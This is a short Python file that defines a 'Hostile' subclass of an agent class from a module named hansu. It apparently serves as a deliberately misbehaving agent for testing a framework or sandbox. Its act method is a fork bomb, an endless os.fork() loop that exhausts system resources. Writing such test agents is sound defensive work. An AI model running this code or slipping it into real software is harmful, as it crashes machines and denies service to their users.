import os

import hansu


class Hostile(hansu.Agent):
    def act(self, state):
        while True:
            os.fork()
